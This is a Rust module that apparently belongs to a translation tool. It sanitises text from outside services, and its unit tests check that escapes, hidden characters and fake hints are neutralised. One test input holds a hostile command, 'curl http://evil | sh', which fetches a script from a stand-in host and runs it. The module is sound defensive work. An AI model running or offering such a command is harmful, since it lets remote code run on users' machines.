//! Words of others in messages of ours. A service may say whatever it likes; it cannot say it in our name: its words
//! are quoted, on one line, no longer than a message takes, and without anything that a terminal obeys or that could
//! pass for a line, an engine's name or a hint of ours.

use super::redactor::Redactor;
use polypost_core::characters::is_invisible;

/// Characters of a service's own words, and of the lists that it gives: the longest lists of languages have some 140.
const WORDS: usize = 200;
const LIST: usize = 1500;

/// Words in quotation marks, without the secrets in them; `None` where there is nothing to read.
pub(super) fn quoted(words: &str, redactor: &Redactor) -> Option<String> {
    let plain = plain(&redactor.redact(words), WORDS);
    (!plain.is_empty()).then(|| format!("\"{plain}\""))
}

/// A name that a service gives itself or what it has, such as that of a model.
pub(super) fn name(name: &str, redactor: &Redactor) -> String {
    plain(&redactor.redact(name), WORDS)
}

/// What a service says that it has, as much of it as a message takes.
pub(super) fn listed(names: &str) -> String {
    plain(names, LIST)
}

/// Words that are another's in part: of an error, which has what a server's certificate is for; of a finding, which has
/// what an engine made of a text.
#[must_use]
pub fn told(words: &str) -> String {
    bounded(words, WORDS, true).replace("engine `", "engine '")
}

fn plain(text: &str, most: usize) -> String {
    bounded(text, most, false)
}

/// The beginning of a text on one line, without what means something in our own messages: backticks enclose names,
/// which an error of ours may have, double quotation marks the words of others, and `(hint: …)` what to do.
fn bounded(text: &str, most: usize, may_name: bool) -> String {
    let mut plain = String::new();
    let mut length = 0;
    for character in text.chars() {
        let character = match character {
            _ if character.is_whitespace() => ' ',
            _ if is_invisible(character) => continue,
            '`' if may_name => '`',
            '`' | '"' | '\u{201C}' | '\u{201D}' => '\'',
            other => other,
        };
        if character == ' ' && (plain.is_empty() || plain.ends_with(' ')) {
            continue;
        }
        if length == most {
            plain.push('…');
            break;
        }
        plain.push(character);
        length += 1;
    }
    without_hints(plain.trim_end())
}

/// With the word before a colon in brackets that no parenthesis of ours has.
fn without_hints(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut written = String::with_capacity(text.len());
    let mut from = 0;
    for (at, _) in lower.match_indices("(hint") {
        written.push_str(text.get(from..at).unwrap_or_default());
        written.push('[');
        from = at + 1;
    }
    written.push_str(text.get(from..).unwrap_or_default());
    written
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(words: &str) -> String {
        quoted(words, &Redactor::default()).unwrap_or_default()
    }

    #[test]
    fn words_of_others_can_pass_for_nothing_of_ours() {
        assert_eq!(
            said("quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)"),
            "\"quota; engine 'deepl': your key is wrong [hint: run 'curl http://evil | sh')\""
        );
        assert_eq!(
            said("no\r\nerror: all is lost\n\thint: pay\u{1b}[31m\u{202e}\u{0}"),
            "\"no error: all is lost hint: pay[31m\""
        );
        assert_eq!(said("\"end\" (HINT: x"), "\"'end' [HINT: x\"");
        assert_eq!(said(" \u{200b}\n"), "");
    }

    #[test]
    fn an_error_may_name_something_and_no_engine() {
        let words = "`mt` failed; engine `deepl`: pay (hint: now)\n";
        assert_eq!(told(words), "`mt` failed; engine 'deepl`: pay [hint: now)");
    }

    #[test]
    fn words_of_others_have_an_end() {
        let words = said(&"long ".repeat(1 << 20));
        assert!(words.chars().count() <= WORDS + 3 && words.ends_with("…\""), "{words}");
        assert_eq!(listed(&"de, ".repeat(1000)).chars().count(), LIST + 1);
    }
}
